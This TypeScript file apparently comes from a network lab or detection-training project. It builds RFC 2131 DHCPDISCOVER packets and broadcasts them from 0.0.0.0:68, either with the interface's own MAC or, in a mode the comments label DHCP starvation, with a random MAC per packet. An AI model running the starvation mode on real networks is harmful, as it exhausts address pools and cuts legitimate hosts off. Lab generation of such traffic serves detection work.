/**
 * DHCPDISCOVERs as a client without a lease sends them: from 0.0.0.0:68 to 255.255.255.255:67. Node's dgram does
 * this with no raw socket when the sender's interface has no IPv4 address (the kernel then has no source to pick
 * but 0.0.0.0) and a route sends limited broadcast out of it — the lab's unaddressed host (see netns.ts).
 * A starvation tool varies the client MAC in the payload (chaddr and client identifier), one per DISCOVER.
 */
import { createSocket } from 'node:dgram';
import { readFileSync } from 'node:fs';
import type { Rng } from '../train/rng.js';

const BOOTP_FIXED = 236;
/** Many clients pad the message to the BOOTP minimum of 300 bytes. */
const MIN_MESSAGE = 300;

/** A BOOTREQUEST carrying DHCPDISCOVER (RFC 2131/2132): broadcast flag, options 53, 61, 55, 12. */
export function dhcpDiscover(mac: Buffer, xid: number): Buffer {
  const fixed = Buffer.alloc(BOOTP_FIXED);
  fixed[0] = 1; // op: BOOTREQUEST
  fixed[1] = 1; // htype: Ethernet
  fixed[2] = 6; // hlen
  fixed.writeUInt32BE(xid >>> 0, 4);
  fixed.writeUInt16BE(0x8000, 10); // broadcast flag: the client cannot receive unicast yet
  mac.copy(fixed, 28); // chaddr
  const hostname = Buffer.from(`lab-${mac.subarray(-1).toString('hex')}`);
  const options = Buffer.concat([
    Buffer.from([0x63, 0x82, 0x53, 0x63]), // magic cookie
    Buffer.from([53, 1, 1]), // DHCPDISCOVER
    Buffer.from([61, 7, 1]), mac, // client identifier: hardware type + MAC
    Buffer.from([55, 4, 1, 3, 6, 15]), // parameter request list: mask, router, DNS, domain
    Buffer.from([12, hostname.length]), hostname,
    Buffer.from([255]),
  ]);
  const msg = Buffer.concat([fixed, options]);
  return msg.length >= MIN_MESSAGE ? msg : Buffer.concat([msg, Buffer.alloc(MIN_MESSAGE - msg.length)]);
}

export interface DiscoverParams {
  count: number;
  gapMs: number;
  /** A new locally administered MAC per DISCOVER (starvation); otherwise the interface's own (a benign client). */
  randomMac: boolean;
  /** The interface whose MAC a benign client uses. */
  dev: string;
}

export async function sendDiscovers(p: DiscoverParams, rng: Rng): Promise<void> {
  const own = p.randomMac ? undefined : Buffer.from(readFileSync(`/sys/class/net/${p.dev}/address`, 'utf8').trim().replaceAll(':', ''), 'hex');
  const sock = createSocket('udp4');
  await new Promise<void>((resolve) => sock.bind(68, '0.0.0.0', resolve));
  sock.setBroadcast(true);
  for (let i = 0; i < p.count; i++) {
    const mac = own ?? Buffer.from([0x02, ...Array.from({ length: 5 }, () => rng.int(256))]);
    await new Promise<void>((resolve, reject) => sock.send(dhcpDiscover(mac, rng.int(0x100000000)), 67, '255.255.255.255', (e) => (e ? reject(e) : resolve())));
    await new Promise((r) => setTimeout(r, p.gapMs * (0.5 + rng.next())));
  }
  sock.close();
}
